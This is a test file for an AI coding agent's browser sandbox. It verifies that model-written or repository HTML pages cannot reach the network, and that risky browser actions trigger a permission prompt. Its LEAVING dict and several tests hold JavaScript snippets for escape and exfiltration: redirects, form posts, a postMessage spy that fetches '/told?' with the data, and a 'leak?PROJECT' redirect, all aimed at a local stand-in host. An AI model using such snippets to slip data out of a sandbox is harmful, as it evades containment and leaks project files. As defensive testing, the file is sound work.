"""A page of the project, which a model wrote or a repository brought, has no way out: not one connection is made.

Each way is also tried by a page that was given a network, where it must work: what no browser does shows nothing.
"""

import asyncio
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

import pytest

from quintet.domain.dials.axes import AxesChange, PermissionProfile, RunControl, WorkMode
from quintet.domain.journal.protocol import CallDecided
from quintet.domain.permission.gate import Verdict
from quintet.testing import ScriptedModel, call
from tests.engine.driving import Driver, drive
from tests.features.browser.browsing import LOOPBACK, Browsing, browsing

needs_chromium = pytest.mark.system("chromium")
LIMIT = 60  # seconds, to end a hang


class Listener:
    """What stands for the internet: keeps the first line of whatever is sent to it, and counts who comes."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.guests = 0
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=200)
        self.port: int = self._socket.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                guest, _ = self._socket.accept()
            except OSError:
                return
            self.guests += 1
            threading.Thread(target=self._hear, args=(guest,), daemon=True).start()

    def _hear(self, guest: socket.socket) -> None:
        with guest:
            guest.settimeout(LIMIT)
            try:
                line = guest.recv(4096).split(b"\r\n")[0].decode("latin-1")
                self.lines.append(line)
                body = b"<title>Elsewhere</title><p>Words of another page</p>"
                kind = "application/x-any" if "download" in line else "text/html"
                head = f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {len(body)}\r\n"
                guest.sendall(f"{head}connection: close\r\naccess-control-allow-origin: *\r\n\r\n".encode() + body)
            except OSError:
                return

    def heard(self, mark: str) -> set[str]:
        """The names that came with a mark."""
        return {line.split()[1].split("?")[0].removeprefix(f"/{mark}/") for line in self.lines if f"/{mark}/" in line}

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


async def resolve(host: str, port: int) -> Sequence[str]:
    return ["127.0.0.1"]


@contextmanager
def opened(folder: Path, own_code: bool = False) -> Iterator[Browsing]:
    """Everything is allowed to the web: this machine, and a name that leads elsewhere."""
    with browsing(folder, own_code, allow=(*LOOPBACK, "outside.test"), resolve=resolve) as tools:
        yield tools


def until(tools: Browsing, found: Callable[[], bool]) -> None:
    """Let the browser's way out work until something is so."""
    end = time.monotonic() + LIMIT
    while not found():
        assert time.monotonic() < end
        tools.loop.run_until_complete(asyncio.sleep(0.02))


WAYS = (Path(__file__).parent / "ways_out.html").read_text()
NAMES = set(re.findall(r"(?:WHERE|SOCKET)([\w-]+)", WAYS))
# What this Chromium does not do for such a page, or not every time, network or none.
IDLE = {"attribution", "hidden", "icon", "manifest", "old", "popup-written", "prerendered", "shared", "speculated"}
NEAR, FAR = "127.0.0.1", "outside.test"


def ways(listener: Listener, mark: str, *hosts: str) -> str:
    """A page that tries every way to these hosts."""
    parts = []
    for number, host in enumerate(hosts):
        place = f"{host}:{listener.port}"
        words = {"WHERE": f"http://{place}/{mark}/", "SOCKET": f"ws://{place}/{mark}/", "ID": f"n{number}"}
        words |= {"SECURE": f"https://{place}/{mark}/", "TURN": place}
        parts.append(re.sub("|".join(words), lambda found, words=words: words[found[0]], WAYS))
    return "".join(parts)


@needs_chromium
@pytest.mark.parametrize("own_code", [False, True], ids=["not trusted", "trusted"])
def test_nothing_of_a_page_leaves_by_any_way_and_with_a_network_it_does(
    tmp_path: Path, listener: Listener, own_code: bool
) -> None:
    with opened(tmp_path, own_code) as tools:
        tools.root.joinpath("shut.html").write_text(ways(listener, "shut", NEAR, FAR))
        service = f"fetch('http://{FAR}:{listener.port}/shut/service')"
        tools.root.joinpath("service.js").write_text(service)
        said = tools.ok("navigate", url="shut.html")
        assert listener.guests == 0, listener.lines  # not one connection, whatever it is for
        assert "(outside.test: a page of the project has no network; browser_navigate opens an address" in said
        if not own_code:
            tools.root.joinpath("open.html").write_text(ways(listener, "open", FAR))
            tools.ok("navigate", url="open.html", network=True)
            until(tools, lambda: NAMES - IDLE <= listener.heard("open"))
            until(tools, lambda: any("HTTP" not in line for line in listener.lines))  # the relay of a call
    assert listener.heard("shut") == set()
    assert own_code is False or listener.guests == 0


LEAVING = {
    "script": "<script>location = 'WHERE'</script>",
    "script later": "<script>setTimeout(() => location.replace('WHERE'))</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=WHERE'>",
    "form": "<form action='WHERE' method=post><input name=d></form><script>document.forms[0].submit()</script>",
    "link": "<a href='WHERE' id=go>go</a><script>go.click()</script>",
    "window": "<script>open('WHERE', '_self')</script>",
    "by way of a blob": "<script>const page = new Blob(['<img src=\"WHERE\">'], {type: 'text/html'}); "
    "location = URL.createObjectURL(page)</script>",
    "by way of a blank page": "<script>location = 'about:blank'; open('', 'x').location = 'WHERE'</script>",
    "own page, then away": "<script>location = 'away.html'</script>",
}


@needs_chromium
def test_a_page_that_leaves_gets_nowhere(tmp_path: Path, listener: Listener) -> None:
    with opened(tmp_path) as tools:
        for number, page in enumerate(LEAVING.values()):
            where = f"http://{(NEAR, FAR)[number % 2]}:{listener.port}/{number}"
            tools.root.joinpath("away.html").write_text(f"<script>location = '{where}'</script>")
            tools.root.joinpath("page.html").write_text(page.replace("WHERE", where))
            tools("navigate", url="page.html")
        tools.root.joinpath("page.html").write_text(f"<a href='http://{FAR}:{listener.port}/clicked'>go</a>")
        tools.ok("navigate", url="page.html")
        tools("click", element_id=tools.id('link "go"'))
        tools("console", content=f"fetch('http://{FAR}:{listener.port}/evaluated')")
        tools("view", reload_window=True)
        assert listener.guests == 0


@needs_chromium
def test_pages_of_the_web_and_of_the_project_know_nothing_of_each_other(tmp_path: Path, listener: Listener) -> None:
    """The one has a network, the other has the files: neither may be a way for the other."""
    web = f"http://{FAR}:{listener.port}/web"
    with opened(tmp_path) as tools:
        spy = "addEventListener('message', (e) => fetch('/told?' + e.data))"
        send = "for (const w of [opener, parent, top, open('', 'web')]) w?.postMessage('DATA', '*');"
        channel = "new BroadcastChannel('x').postMessage('DATA');"
        tools.root.joinpath("page.html").write_text(f"<title>Mine</title><script>{send} {channel}</script><p>mine</p>")
        tools.ok("navigate", url=web)
        tools.ok("console", content=f"{spy}; window.name = 'web'; document.cookie = 'kept=1'; open('/second') && 0")
        listening = "new BroadcastChannel('x').onmessage = (e) => fetch('/told?' + e.data)"
        tools.ok("console", content=f"void ({listening})")
        tools.ok("navigate", url="page.html", tab_idx=1)  # in the tab that the page of the web opened
        assert tools.ok("console", content="[opener, history.length < 3]").split() == ["[", "null,", "true", "]"]
        tools("press_key", content="Alt+ArrowLeft")
        tools.ok("navigate", url="page.html", tab_idx=1)
        tools("console", content="history.back()")
        assert "Words of another page" not in tools.ok("view")
        assert "Elsewhere" in tools.ok("view", tab_idx=0)
        frame = "Object.assign(document.createElement('iframe'), {src: 'http://quintet-project.localhost/page.html'})"
        tools.ok("console", content=f"document.body.append({frame}) || 0")
        assert "mine" not in tools.ok("view")
        tools("navigate", url="page.html")
        before = len(listener.lines)
        assert "Words of another page" in tools.ok("navigate", url=web), "a page of the web has its network as before"
        assert len(listener.lines) > before
        assert tools.ok("console", content="document.cookie") == "kept=1"
        assert not [line for line in listener.lines if "told" in line]


PLAN = AxesChange(WorkMode.PLAN, RunControl.AUTONOMOUS, PermissionProfile.NORMAL)
RESTRICTED = AxesChange(WorkMode.CHAT, RunControl.AUTONOMOUS, PermissionProfile.RESTRICTED)


@needs_chromium
def test_a_plan_that_opens_its_own_page_tells_nobody(repo: Path, listener: Listener) -> None:
    where = f"http://127.0.0.1:{listener.port}/leak?PROJECT"

    async def script(driver: Driver) -> None:
        await driver.ended(await driver.session.say("plan it"))

    calls = [
        [call("Write", file_path="specs/x.html", content=f"<title>Plan</title><script>location = '{where}'</script>")],
        [call("browser_navigate", url="specs/x.html")],
        [call("browser_view", reload_window=True)],
        [call("browser_navigate", url="specs/x.html", network=True)],
    ]
    allow = {"web.allow_hosts": (f"127.0.0.1:{listener.port}",)}
    driver = drive(repo, script, ScriptedModel([*calls, "done"]), axes=PLAN, settings=allow)
    assert listener.lines == []
    assert listener.guests == 0
    assert [one.verdict for one in driver.of(CallDecided)] == [Verdict.ALLOW] * 3 + [Verdict.ASK]


@pytest.mark.parametrize("axes", [PLAN, RESTRICTED], ids=["plan", "restricted"])
def test_what_tells_a_page_something_asks_where_composed_addresses_do(repo: Path, axes: AxesChange) -> None:
    async def script(driver: Driver) -> None:
        await driver.ended(await driver.session.say("look at https://example.com/"))

    calls = [
        call("browser_move_mouse", coordinates=[123, 456]),
        call("browser_move_mouse", element_id=7),
        call("browser_scroll", direction="down"),
        call("browser_scroll", direction="up", element_id="f1:9"),
        call("browser_set_mobile", enabled=True),
        call("browser_navigate", url="index.html", network=True),
        call("browser_restart", url="file:index.html", network=True),
        call("browser_type", content="DATA"),
        call("browser_press_key", content="D A T A"),
        call("browser_console", content="1"),
    ]
    for one in calls:
        driver = drive(repo, script, ScriptedModel([[one], "done"]), axes=axes)
        assert driver.of(CallDecided)[0].verdict is Verdict.ASK, one
